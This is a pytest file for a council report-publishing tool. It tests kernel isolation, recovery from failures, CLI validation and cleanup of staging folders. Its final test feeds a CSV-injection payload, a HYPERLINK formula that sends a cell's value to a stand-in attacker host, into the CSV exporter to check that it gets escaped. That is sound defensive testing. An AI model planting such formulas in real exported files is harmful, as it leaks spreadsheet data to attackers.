"""The warm-kernel pool: no leak between councils, failures isolated, kernels cleaned up."""

from __future__ import annotations

import os
import time
from pathlib import Path

import nbformat
import pytest

from builders import build_workspace, evidence_row
from sefkit.cli import main
from sefkit.publish.batch import run_reports
from sefkit.publish.kernels import WarmKernel

ROOT = Path(__file__).resolve().parents[2]


def notebook(*sources: str) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell('council = "x"\nworkspace = "."\nas_of = ""')
    params.metadata["tags"] = ["parameters"]
    nb.cells = [params] + [nbformat.v4.new_code_cell(s) for s in sources]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def text_outputs(nb) -> str:
    return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)


def test_a_variable_from_council_a_is_gone_when_council_b_runs(tmp_path):
    nb = notebook("print(sorted(k for k in globals() if k.startswith('secret_')))",
                  "exec(f'secret_{council} = 1')")
    with WarmKernel(cwd=tmp_path) as kernel:
        first = kernel.execute(nb, {"council": "alpha"})
        second = kernel.execute(nb, {"council": "beta"})
        pid = kernel.km.provisioner.pid
    assert "[]" in text_outputs(first)
    assert "[]" in text_outputs(second), "secret_alpha leaked into beta's run"
    time.sleep(0.5)
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)   # the kernel process is gone after shutdown


def test_kernel_is_restarted_after_a_failure_and_keeps_working(tmp_path):
    from papermill.exceptions import PapermillExecutionError

    nb = notebook("x = 1", "if council == 'broken': raise ValueError('bad data in cell')", "print('done', council)")
    with WarmKernel(cwd=tmp_path) as kernel:
        with pytest.raises(PapermillExecutionError) as exc:
            kernel.execute(nb, {"council": "broken"})
        assert exc.value.ename == "ValueError" and "bad data in cell" in exc.value.evalue
        after = kernel.execute(nb, {"council": "fine"})
    assert "done fine" in text_outputs(after)


def three_councils(root: Path) -> Path:
    build_workspace(root, "alpha")
    build_workspace(root, "broken-data", evidence=[evidence_row(status="nearly there")])
    build_workspace(root, "gamma")
    return root


def test_one_broken_council_never_stops_the_others(tmp_path):
    root = three_councils(tmp_path / "ws")
    nb_path = tmp_path / "failing.ipynb"
    nb = nbformat.read(ROOT / "notebooks" / "sef_report.ipynb", as_version=4)
    nb.cells.insert(3, nbformat.v4.new_code_cell("if council == 'gamma':\n    raise RuntimeError('chart failed')"))
    nbformat.write(nb, nb_path)
    result = run_reports(root, ["alpha", "broken-data", "gamma"], None, ("html", "ipynb", "docx"), jobs=2,
                         progress=False, notebook=nb_path)
    by = {r.council: r for r in result.results}
    assert by["alpha"].ok
    assert {p.name for p in (root / "reports/alpha/2025-10-31").iterdir() if not p.name.startswith(".")} == {
        "sef-report.html", "sef-report.ipynb", "sef-report.docx", "scorecard.json", "gaps.csv"}
    assert not by["broken-data"].ok and "'nearly there' is not a readiness status" in by["broken-data"].error
    assert not by["gamma"].ok and by["gamma"].cell.startswith("cell 4 (if council == 'gamma':")
    assert by["gamma"].error == "RuntimeError: chart failed"
    assert not (root / "reports" / "gamma").exists() or not any((root / "reports" / "gamma").iterdir())
    assert not (root / "reports" / "broken-data").exists()
    assert result.exit_code == 1
    assert result.summary().startswith("Reports: 1 done, 2 failed in ")


def test_cli_reports_failures_with_council_cell_and_message(tmp_path, capsys):
    root = three_councils(tmp_path / "ws")
    code = main(["report", "--workspace", str(root), "--all", "--format", "html", "--no-progress"])
    out, err = capsys.readouterr()
    assert code == 1
    assert f"alpha: {root / 'reports/alpha/2025-10-31'}" in out
    assert "broken-data: FAILED: invalid input:" in err
    assert "Reports: 2 done, 1 failed in" in err


@pytest.mark.parametrize("args,message", [
    (["--council", "nowhere"], "unknown council 'nowhere'"),
    (["--all", "--as-of", "2025-13-01"], "--as-of: error: '2025-13-01' is not a date"),
    (["--all", "--format", "html,pptx"], "unknown format pptx: choose from html, pdf, docx, ipynb"),
])
def test_bad_requests_are_refused_before_any_kernel_starts(tmp_path, capsys, args, message):
    root = build_workspace(tmp_path / "ws")
    assert main(["report", "--workspace", str(root), *args]) == 1
    assert message in capsys.readouterr().err
    assert not (root / "reports").exists()   # refused before the batch (which creates reports/) began


def test_half_written_folders_of_a_dead_run_are_cleared_but_a_live_ones_are_kept(tmp_path):
    from sefkit.publish.folder import STAGING_MARK, recover

    dead = tmp_path / "alpha" / ".2025-10-31.partial-999999999"
    live = tmp_path / "alpha" / f".2025-10-31.partial-{os.getpid()}"
    for folder in (dead, live):
        folder.mkdir(parents=True)
        (folder / "sef-report.html").write_text("half")
        (folder / STAGING_MARK).write_text("")
    assert recover(tmp_path, ["alpha"]) == [dead]
    assert not dead.exists() and live.exists()


def test_gaps_csv_cells_are_never_formulas_when_opened_in_excel():
    """An action ref like =HYPERLINK(...) reaches gaps.csv; Excel would run it (CSV injection)."""
    import csv
    import io

    from sefkit.publish.outputs import gaps_csv

    gap = {"type": "action_overdue", "severity": "medium", "criterion": "C-1", "annex_a": None,
           "description": "-1 is fine as text", "next_step": "@SUM(1+1)", "criteria": ["C-1"],
           "ref": '=HYPERLINK("http://evil.example/?x="&A1,"Click")'}
    rows = list(csv.reader(io.StringIO(gaps_csv([gap]))))
    assert rows[1][7] == "'" + gap["ref"] and rows[1][5] == "'@SUM(1+1)" and rows[1][4] == "'-1 is fine as text"
    assert rows[1][:4] == ["action_overdue", "medium", "C-1", ""]
